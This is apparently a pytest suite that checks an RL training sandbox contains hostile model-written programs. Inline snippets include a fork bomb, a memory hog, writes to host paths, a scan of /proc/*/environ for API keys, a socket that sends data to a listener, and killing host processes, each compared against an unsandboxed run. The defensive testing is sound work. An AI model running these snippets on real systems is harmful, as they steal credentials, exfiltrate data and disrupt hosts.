"""Attacks a model-written program might make, each contained by the sandbox.

Every attack program raises when the attack fails, so a contained attack is "not passed" and scores
<= 0 through code_reward. Each test also checks the host (no file created, secret not in output, no
process left) and that the next run still works; where rlimits alone do not stop the attack, a
contrast run with bubblewrap missing (rlimit-only mode) shows the attack really works without it.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import posttrain
from posttrain.rl.code_reward import CodeGrade, code_reward
from posttrain.sandbox import Limits, ProblemTests, run_python

from .conftest import assert_next_run_works, assert_nothing_survives, descendants, kill_all, processes_matching

PROJECT_README = Path(posttrain.__file__).resolve().parents[1] / "README.md"
ALWAYS_PASSES = ProblemTests(test_code="assert True\n")


def attack(program: str, *, timeout_s: float = 5.0, memory_mb: int = 256, rlimit_only: bool = False) -> CodeGrade:
    response = f"Here is my solution.\n```python\n{program}\n```\n"
    return code_reward(response, ALWAYS_PASSES, limits=Limits(timeout_s=timeout_s, memory_mb=memory_mb), allow_rlimit_only=rlimit_only)


def assert_contained(grade: CodeGrade) -> None:
    assert grade.has_code_block
    assert grade.status != "passed", grade
    assert grade.reward <= 0.0


def test_fork_bomb():
    before = descendants()
    started = time.monotonic()
    grade = attack("import os\nwhile True:\n    os.fork()\n", timeout_s=10)
    assert_contained(grade)
    assert time.monotonic() - started < 12
    assert_nothing_survives("/sandbox/harness.pyc", before)
    assert_next_run_works()


@pytest.mark.parametrize("has_setpriv", [True, False], ids=["setpriv-switches", "popen-switches"])
def test_the_candidate_runs_as_nobody_without_capabilities(monkeypatch, has_setpriv):
    """On a root host the candidate's user maps to nobody (so RLIMIT_NPROC binds a fork bomb) with no
    capabilities and no groups: switched by setpriv where installed, so that Popen changes no ids and can
    vfork instead of copying the parent (isolation.py), and by Popen itself otherwise."""
    import shutil

    import posttrain.sandbox.isolation as isolation

    if not has_setpriv:
        which = shutil.which
        monkeypatch.setattr(shutil, "which", lambda name, *args, **kw: None if name == "setpriv" else which(name, *args, **kw))
    root = os.geteuid() == 0
    launch = isolation.launch_for(isolation.BWRAP, Path("/sandbox-host-dir"), 3, Limits(timeout_s=5, memory_mb=256), "harness.pyc")
    assert launch.run_as_nobody == (root and not has_setpriv)
    assert (Path(launch.argv[0]).name == "setpriv") == (root and has_setpriv)
    code = (
        "import os\nstatus = open('/proc/self/status').read()\n"
        "print(os.getuid(), os.geteuid(), os.getgid(), len(os.getgroups()), status.split('CapEff:')[1].split()[0])\n"
    )
    result = run_python(code, timeout_s=10, memory_mb=256)
    assert result.status == "passed", result
    uid, euid, gid, groups, capabilities = result.stdout_tail.split()
    expected_uid, expected_gid = (isolation.NOBODY, isolation.NOBODY) if root else (os.getuid(), os.getgid())
    assert (int(uid), int(euid), int(gid)) == (expected_uid, expected_uid, expected_gid)
    assert int(capabilities, 16) == 0
    if root:  # as a user, bubblewrap keeps the caller's supplementary groups (unmapped in the namespace)
        assert int(groups) == 0


def test_fork_count_is_capped_per_sandbox():
    program = (
        "import os, time\ncount = 0\n"
        "for _ in range(100):\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        "    if pid == 0:\n        time.sleep(3)\n        os._exit(0)\n"
        "    count += 1\n"
        "print('forked', count)\n"
    )
    limits = Limits(timeout_s=10, memory_mb=256, processes=16)
    result = run_python(program, timeout_s=10, memory_mb=256, limits=limits)
    forked = int(result.stdout_tail.split()[-1])
    assert forked < 16, result


def test_memory_bomb():
    hog = "chunks = [bytearray(64 * 1024 * 1024) for _ in range(8)]\nprint('allocated', len(chunks))\n"
    grade = attack(hog, memory_mb=256)
    assert_contained(grade)
    assert grade.status == "crashed" and "MemoryError" in grade.stderr_tail
    bare = subprocess.run([sys.executable, "-c", hog], capture_output=True, text=True, timeout=60)
    assert "allocated 8" in bare.stdout  # without the limit the same 512 MB allocation succeeds
    assert_next_run_works()


def test_cpu_loop():
    started = time.monotonic()
    grade = attack("while True:\n    pass\n", timeout_s=1.5)
    assert_contained(grade)
    assert grade.status == "timeout" and time.monotonic() - started < 5
    with pytest.raises(subprocess.TimeoutExpired):  # unbounded without the sandbox's deadline
        subprocess.run([sys.executable, "-c", "while True: pass"], timeout=1.5)
    assert_next_run_works()


def test_sleep_loop_is_stopped_by_the_wall_clock():
    before = descendants()
    started = time.monotonic()
    grade = attack("import time\nwhile True:\n    time.sleep(0.1)\n", timeout_s=1.5)
    assert_contained(grade)
    assert grade.status == "timeout" and time.monotonic() - started < 5
    assert_nothing_survives("/sandbox/harness.pyc", before)
    assert_next_run_works()


def test_huge_stdout():
    limits = Limits(timeout_s=20, memory_mb=256, max_output_bytes=1 << 20, tail_chars=4000)
    started = time.monotonic()
    grade = code_reward("```python\nwhile True:\n    print('x' * 10000)\n```", ALWAYS_PASSES, limits=limits)
    assert_contained(grade)
    assert grade.status == "crashed" and len(grade.stdout_tail) <= 4000
    assert time.monotonic() - started < 15  # stopped at the cap, not at the deadline
    bare = subprocess.run([sys.executable, "-c", "import sys\nfor _ in range(200): print('x' * 10000)"], capture_output=True)
    assert len(bare.stdout) > limits.max_output_bytes  # a bare run hands the host all of it
    assert_next_run_works()


def _writer(targets: list[Path]) -> str:
    return (
        f"targets = {[str(t) for t in targets]!r}\nwritten = []\n"
        "for target in targets:\n"
        "    try:\n        open(target, 'w').write('pwned')\n        written.append(target)\n"
        "    except OSError as error:\n        print('blocked', target, error)\n"
        "if not written:\n    raise SystemExit('every write was blocked')\nprint('wrote', written)\n"
    )


def test_writing_outside_the_sandbox(tmp_path, without_bwrap):
    token = secrets.token_hex(6)
    targets = [tmp_path / f"pwned-{token}", PROJECT_README.parent / f"pwned-{token}", Path.home() / f"pwned-{token}"]
    os.environ.pop("POSTTRAIN_SANDBOX_BWRAP")
    assert_contained(attack(_writer(targets)))
    assert not any(target.exists() for target in targets)
    os.environ["POSTTRAIN_SANDBOX_BWRAP"] = "/nonexistent/bwrap"
    with pytest.warns(RuntimeWarning, match="WITHOUT a sandbox"):
        contrast = attack(_writer(targets[:1]), rlimit_only=True)
    assert contrast.status == "passed" and targets[0].read_text() == "pwned"
    os.environ.pop("POSTTRAIN_SANDBOX_BWRAP")
    assert_next_run_works()


READER = (
    "import os\nfound = []\n"
    "for path in {paths!r}:\n"
    "    try:\n"
    "        found.append(open(path).read()[:200] if os.path.isfile(path) else str(os.listdir(path)))\n"
    "    except OSError as error:\n        print('blocked', path, error)\n"
    "if not found:\n    raise SystemExit('nothing readable')\nprint(found)\n"
)


def test_reading_the_project_and_home(tmp_path, without_bwrap):
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text("host-only-secret-" + secrets.token_hex(6))
    paths = [str(PROJECT_README), str(PROJECT_README.parent), str(Path.home()), str(secret_file)]
    with pytest.warns(RuntimeWarning):
        contrast = attack(READER.format(paths=paths), rlimit_only=True)
    assert contrast.status == "passed" and secret_file.read_text() in contrast.stdout_tail
    os.environ.pop("POSTTRAIN_SANDBOX_BWRAP")
    grade = attack(READER.format(paths=paths))
    assert_contained(grade)
    assert secret_file.read_text() not in grade.stdout_tail + grade.stderr_tail
    assert PROJECT_README.read_text()[:60] not in grade.stdout_tail
    assert_next_run_works()


SECRET_HUNTER = (
    "import os, glob\nhits = [f'env:{{k}}' for k, v in os.environ.items() if {secret!r} in v]\n"
    "for path in glob.glob('/proc/*/environ'):\n"
    "    try:\n        if {secret!r}.encode() in open(path, 'rb').read():\n            hits.append(path)\n"
    "    except OSError:\n        pass\n"
    "if not hits:\n    raise SystemExit('no secret found')\nprint('stole', {secret!r}, hits)\n"
)


def test_reading_tinker_api_key(monkeypatch, without_bwrap):
    secret = "tml-sentinel-" + secrets.token_hex(8)
    monkeypatch.setenv("TINKER_API_KEY", secret)
    monkeypatch.setenv("HF_TOKEN", secret)
    # A process that holds the key in its environment, as a trainer would.
    holder = subprocess.Popen(["sleep", "60"], env={**os.environ, "TINKER_API_KEY": secret})
    try:
        with pytest.warns(RuntimeWarning):
            contrast = attack(SECRET_HUNTER.format(secret=secret), rlimit_only=True)
        assert contrast.status == "passed" and f"/proc/{holder.pid}/environ" in contrast.stdout_tail
        monkeypatch.delenv("POSTTRAIN_SANDBOX_BWRAP")
        grade = attack(SECRET_HUNTER.format(secret=secret))
        assert_contained(grade)
        assert secret not in grade.stdout_tail + grade.stderr_tail
        env_dump = run_python("import os\nprint(sorted(os.environ))", timeout_s=10, memory_mb=256)
        assert env_dump.passed and "TINKER_API_KEY" not in env_dump.stdout_tail and "HF_TOKEN" not in env_dump.stdout_tail
    finally:
        holder.kill()
        holder.wait()
    assert_next_run_works()


def _listener() -> tuple[socket.socket, list[bytes]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []

    def accept() -> None:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            try:
                connection, _ = server.accept()
            except (TimeoutError, OSError):
                continue
            received.append(connection.recv(100))
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    return server, received


def test_network(without_bwrap):
    server, received = _listener()
    port = server.getsockname()[1]
    program = f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\ns.sendall(b'exfiltrated')\n"
    try:
        os.environ.pop("POSTTRAIN_SANDBOX_BWRAP")
        grade = attack(program)
        assert_contained(grade)
        assert "ConnectionRefused" in grade.stderr_tail or "unreachable" in grade.stderr_tail.lower()
        time.sleep(0.3)
        assert received == []
        os.environ["POSTTRAIN_SANDBOX_BWRAP"] = "/nonexistent/bwrap"
        with pytest.warns(RuntimeWarning):
            contrast = attack(program, rlimit_only=True)
        deadline = time.monotonic() + 3
        while not received and time.monotonic() < deadline:
            time.sleep(0.05)
        assert contrast.status == "passed" and received == [b"exfiltrated"]
    finally:
        server.close()
        os.environ.pop("POSTTRAIN_SANDBOX_BWRAP", None)
    assert_next_run_works()


def test_killing_the_parent_and_host_processes(without_bwrap):
    victim = subprocess.Popen(["sleep", "60"])
    try:
        killer = f"import os, signal\nos.kill({victim.pid}, signal.SIGKILL)\n"
        os.environ.pop("POSTTRAIN_SANDBOX_BWRAP")
        grade = attack(killer + "os.kill(os.getppid(), signal.SIGKILL)\n")
        assert_contained(grade)
        assert victim.poll() is None  # the host pid does not exist inside the sandbox's pid namespace
        assert_next_run_works()
        os.environ["POSTTRAIN_SANDBOX_BWRAP"] = "/nonexistent/bwrap"
        with pytest.warns(RuntimeWarning):
            contrast = attack(killer, rlimit_only=True)  # (not getppid: that would be this test process)
        assert contrast.status == "passed" and victim.wait(timeout=5) == -9
    finally:
        victim.kill()
        victim.wait()
        os.environ.pop("POSTTRAIN_SANDBOX_BWRAP", None)


def test_background_process_left_behind(without_bwrap):
    marker = f"{secrets.randbelow(10**6) + 10**6}.5"
    program = (
        "import os, subprocess\n"
        f"subprocess.Popen(['sleep', '{marker}'], start_new_session=True)\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execvp('sleep', ['sleep', '{marker}'])\n    os._exit(0)\n"
        "raise SystemExit('left my children behind')\n"
    )
    before = descendants()
    try:
        os.environ.pop("POSTTRAIN_SANDBOX_BWRAP")
        grade = attack(program)
        assert_contained(grade)
        assert_nothing_survives(marker, before)
        os.environ["POSTTRAIN_SANDBOX_BWRAP"] = "/nonexistent/bwrap"
        with pytest.warns(RuntimeWarning):
            attack(program, rlimit_only=True)
        assert len(processes_matching(marker)) == 2  # rlimits alone cannot reap a setsid() daemon
    finally:
        kill_all(marker)
        os.environ.pop("POSTTRAIN_SANDBOX_BWRAP", None)
    assert_next_run_works()
